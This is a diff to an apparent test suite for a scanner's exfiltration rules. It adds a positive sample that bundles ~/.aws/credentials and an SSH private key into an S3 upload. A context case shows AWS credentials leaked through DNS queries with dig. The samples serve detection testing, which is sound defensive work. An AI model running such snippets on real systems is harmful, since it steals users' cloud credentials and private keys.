@@ -96,6 +96,14 @@ describeRuleCases('exfiltration', [
   },
   {
     id: 'SG-EXFIL-002',
+    file: 'scripts/upload.py',
+    positive:
+      'EXTRA = ["~/.aws/credentials", "~/.ssh/id_rsa"]\nfor p in EXTRA:\n    tar.add(os.path.expanduser(p))\ns3.put_object(Bucket=BUCKET, Key=key, Body=buf.getvalue())\n',
+    negative:
+      'EXTRA = ["reports/summary.csv", "reports/chart.png"]\nfor p in EXTRA:\n    tar.add(p)\ns3.put_object(Bucket=BUCKET, Key=key, Body=buf.getvalue())\n',
+  },
+  {
+    id: 'SG-EXFIL-002',
     file: 'scripts/probe.sh',
     positive:
       'xxd -p "$HOME/.aws/credentials" | fold -w 60 | while read -r c; do\n  dig +short "${c}.${i}.${zone}" A\ndone\n',
